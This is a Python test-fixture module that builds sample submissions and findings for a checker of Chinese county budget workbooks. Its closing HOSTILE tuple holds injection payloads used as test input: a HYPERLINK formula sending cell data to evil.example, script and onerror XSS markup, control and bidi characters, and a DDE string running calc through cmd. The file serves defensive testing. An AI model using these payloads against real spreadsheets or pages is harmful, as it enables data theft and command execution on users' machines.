"""Submissions made by hand: one of each outcome, and one whose every text is hostile."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from typing import Any

from generator.checks.report import CheckResult, Report, Verdict
from generator.messages import finding
from generator.model.budget import Department, Unit
from generator.model.finding import Finding, Place
from generator.model.form import IssuedForm
from generator.reader.submission import Outcome, Submission, Told, Typed

FILE = "305-榆林坡县水务局.xlsx"
FORM = IssuedForm("xinjiang", 2025, "1f2e3d4c", "2024-11-25")
DEPARTMENT = Department("榆林坡县水务局", 2025, (Unit("榆林坡县水务局"),), code="305")


def at(cell: str, sheet: str = "支出录入", heading: str = "金额（元）", file: str = FILE) -> Place:
    """A cell of the person's file."""
    row = int("".join(sign for sign in cell if sign.isdigit()) or 0)
    return Place(file, row, heading, sheet, cell)


def amount_is_no_number(cell: str = "I26", found: str = "十万", **place: str) -> Finding:
    """An error at one cell."""
    return finding("IN-005", at(cell, **place), found)


def check(id_: str = "X07-1", verdict: Verdict = Verdict.BROKEN, explanation: str = "") -> CheckResult:
    """A check of tables 4 and 5, its sides 0.01 yuan apart unless it is balanced."""
    difference = Decimal("0.01") if verdict is Verdict.BROKEN else Decimal(0)
    return CheckResult(
        id_,
        "error",
        verdict,
        Decimal("233498.44"),
        Decimal("233498.44") - difference,
        difference,
        "表4!C9",
        "表5!E16",
        "各类：表4 一般公共预算等于表5 合计",
        "each 类 of table 4 equals table 5",
        explanation,
        "元",
    )


REPORT = Report(
    (
        check("B01", Verdict.BALANCED),
        check("X07-1", Verdict.BROKEN, "教育支出相差 0.01 元"),
        check("N01", Verdict.ROUNDED),
        check("C01", Verdict.IDLE),
    ),
    "123456",
)


def refused(**changes: Any) -> Submission:
    """A workbook to be mended: a root cause at eight places with five knock-ons, a warning, a note."""
    knock_ons = tuple(Told(finding("IN-008", at(f"E{row}", "表5", "合计"), "0")) for row in range(16, 20))
    deep = Told(finding("IN-018", at("C9", "表4", "一般公共预算")), also=(at("C10", "表4"), at("C11", "表4")))
    root = Told(
        amount_is_no_number(),
        also=tuple(at(f"I{row}") for row in (27, 29, 30, 31, 40, 42, 44)),
        knock_ons=(replace(knock_ons[0], knock_ons=(deep,)), *knock_ons[1:]),
    )
    told = (
        root,
        Told(finding("IN-018", at("C8", "收入录入"))),
        Told(finding("IN-008", at("I50"), "0.00"), also=(at("I51"),)),
    )
    made = Submission(FILE, "a" * 64, Outcome.REFUSED, FORM, None, DEPARTMENT, told, REPORT)
    return replace(made, **changes)


def accepted() -> Submission:
    """A workbook with which all is well."""
    balanced = Report((check("B01", Verdict.BALANCED),), "654321")
    return refused(file="316-住建局.xlsx", outcome=Outcome.ACCEPTED, told=(), report=balanced)


def to_explain() -> Submission:
    """A workbook that wants one reason."""
    told = (Told(finding("IN-018", at("C8", "收入录入", file="352-休养所.xlsx"))),)
    return refused(file="352-休养所.xlsx", outcome=Outcome.TO_EXPLAIN, told=told)


def unreadable() -> Submission:
    """A file from which nothing can be read."""
    told = (Told(finding("FILE-012", Place("加密.xlsx"))),)
    return Submission("加密.xlsx", "b" * 64, Outcome.UNREADABLE, told=told)


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "<script>alert(1)</script><img src=http://evil.example/x onerror=alert(1)>",
    "\x1b[2J\x1b]0;title\x07\x9b31m\r\n\t\u202e\u2028\udcff",
    "'\"&amp;</style></script></details>{found}{0}%s",
    " \t+1+cmd|' /C calc'!A0",
)
"""Texts that want to be formulas, markup, control characters, escapes and templates."""


def hostile(text: str) -> Submission:
    """A workbook in which every text that a person can choose is `text`."""
    place = Place(text, 26, text, text, text)
    report = Report((check("X07-1", Verdict.BROKEN, text), check("N01", Verdict.ROUNDED, text)), "123456")
    root = Told(
        finding("IN-002", place, text, allowed=text, nearest=text),
        also=(place, place),
        knock_ons=(Told(finding("IN-005", place, text), also=(place,)),),
    )
    department = Department(text, 2025, (Unit(text, text, text),), code=text)
    return refused(
        file=text,
        department=department,
        told=(root,),
        report=report,
        typed=Typed(facts={"名称": text, "编码": text}),
    )
